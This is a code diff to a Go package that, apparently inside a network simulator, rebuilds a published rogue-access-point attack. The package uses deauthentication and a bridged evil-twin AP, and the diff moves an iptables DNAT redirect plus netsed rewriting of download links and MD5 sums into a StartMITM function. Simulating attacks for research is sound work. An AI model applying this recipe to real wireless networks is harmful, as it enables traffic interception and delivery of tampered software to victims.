@@ -1,13 +1,14 @@
 // Package attack assembles the paper's proof-of-concept attacker from the
 // substrate packages, mirroring Section 4's recipe piece by piece:
 //
-//   - RogueKit: the two-card laptop. One WiFi interface associates to the
-//     real network as an ordinary client ("eth1", the paper's Netgear
-//     MA101); the second runs in Master mode as an access point with the
-//     same SSID and WEP key ("wlan0", the D-Link DWL-650 under hostap).
-//     parprouted bridges them (Appendix A), Netfilter DNATs the victim's
-//     port-80 traffic into a local netsed, and netsed swaps the download
-//     link and MD5 sum (Figure 2).
+//   - RogueKit: the two-card laptop of Figure 1. One WiFi interface
+//     associates to the real network as an ordinary client ("eth1", the
+//     paper's Netgear MA101); the second runs in Master mode as an access
+//     point with the same SSID and WEP key ("wlan0", the D-Link DWL-650
+//     under hostap). parprouted bridges them (Appendix A).
+//   - StartMITM: Figure 2's payload, run on whichever gateway the victim's
+//     traffic crosses: Netfilter DNATs the victim's port-80 traffic into a
+//     local netsed, and netsed swaps the download link and MD5 sum.
 //   - Deauther: the targeted forced-disassociation step ("he could force
 //     the client's disassociation from the legitimate AP until the client
 //     associates with the Rogue AP").
@@ -61,19 +62,10 @@ type RogueKitConfig struct {
 	// DefaultGW is Appendix A's "route add default gw 10.0.0.1": the real
 	// network's router, reached through the client-side interface.
 	DefaultGW inet.Addr
-	// TargetIP selects the website whose responses are rewritten (the
-	// paper's "Target-IP", on targetPort).
-	TargetIP inet.Addr
-	// NetsedRules are the substitutions, in netsed's s/from/to syntax.
-	// netsed matches them per segment, faithful to the paper's tool.
-	NetsedRules []string
 	// PoisonUpstream sends gratuitous ARP on the client side for victim
 	// addresses learned behind the rogue AP, so the real network re-learns
 	// them immediately instead of waiting for cache expiry.
 	PoisonUpstream bool
-	// DisableMITM builds the bridge only (a pure relay rogue — useful as a
-	// baseline and for detection experiments).
-	DisableMITM bool
 }
 
 // RogueKit is the running attacker.
@@ -84,8 +76,6 @@ type RogueKit struct {
 	AP         *dot11.AP
 	IP         *ipv4.Stack
 	TCP        *tcp.Stack
-	FW         *netfilter.Table
-	Netsed     *netsed.Proxy
 	Parprouted *arp.Parprouted
 
 	// VictimsAssociated counts stations that joined the rogue AP.
@@ -95,9 +85,10 @@ type RogueKit struct {
 	UplinkUp bool
 }
 
-// NewRogueKit builds and starts the attack. The two radios are placed at
-// pos; the station side starts scanning immediately.
-func NewRogueKit(k *sim.Kernel, medium *phy.Medium, pos phy.Position, cfg RogueKitConfig) (*RogueKit, error) {
+// NewRogueKit builds and starts the bridge. The two radios are placed at
+// pos; the station side starts scanning immediately. The bridge relays
+// without tampering until StartMITM runs on its stacks.
+func NewRogueKit(k *sim.Kernel, medium *phy.Medium, pos phy.Position, cfg RogueKitConfig) *RogueKit {
 	kit := &RogueKit{cfg: cfg}
 
 	// Client-side card, associating to the real network like any station.
@@ -161,31 +152,33 @@ func NewRogueKit(k *sim.Kernel, medium *phy.Medium, pos phy.Position, cfg RogueK
 		}
 	}
 
-	if !cfg.DisableMITM {
-		// The paper's Netfilter redirect, verbatim.
-		kit.FW = netfilter.New()
-		kit.FW.RegisterInvariants(k)
-		kit.IP.AddHook(kit.FW)
-		cmd := "iptables -t nat -A PREROUTING -p tcp -d " + cfg.TargetIP.String() +
-			" --dport " + targetPort.String() +
-			" -j DNAT --to " + cfg.WlanIP.String() + ":10101"
-		if _, err := kit.FW.ParseIptables(cmd); err != nil {
-			return nil, err
-		}
-		// And netsed listening where the DNAT points.
-		proxy, err := netsed.Start(kit.TCP, netsed.Config{
-			ListenPort: 10101,
-			Upstream:   inet.HostPort{Addr: cfg.TargetIP, Port: targetPort},
-			Rules:      cfg.NetsedRules,
-		})
-		if err != nil {
-			return nil, err
-		}
-		kit.Netsed = proxy
-	}
-
 	kit.STA.Connect()
-	return kit, nil
+	return kit
+}
+
+// StartMITM turns a gateway hostile (Figure 2). A Netfilter rule DNATs TCP
+// to target's port 80 into a netsed listening on local, the gateway's
+// address on the victim's side. netsed relays each connection on to target
+// and applies rules, in its s/from/to syntax, to the responses, matching per
+// segment as the paper's tool does. It schedules no event and draws no
+// randomness.
+func StartMITM(ip *ipv4.Stack, t *tcp.Stack, target, local inet.Addr, rules []string) (*netsed.Proxy, error) {
+	// The paper's Netfilter redirect, verbatim.
+	fw := netfilter.New()
+	fw.RegisterInvariants(ip.Kernel())
+	ip.AddHook(fw)
+	cmd := "iptables -t nat -A PREROUTING -p tcp -d " + target.String() +
+		" --dport " + targetPort.String() +
+		" -j DNAT --to " + local.String() + ":10101"
+	if _, err := fw.ParseIptables(cmd); err != nil {
+		return nil, err
+	}
+	// And netsed listening where the DNAT points.
+	return netsed.Start(t, netsed.Config{
+		ListenPort: 10101,
+		Upstream:   inet.HostPort{Addr: target, Port: targetPort},
+		Rules:      rules,
+	})
 }
 
 // Stop silences the kit (both radios).
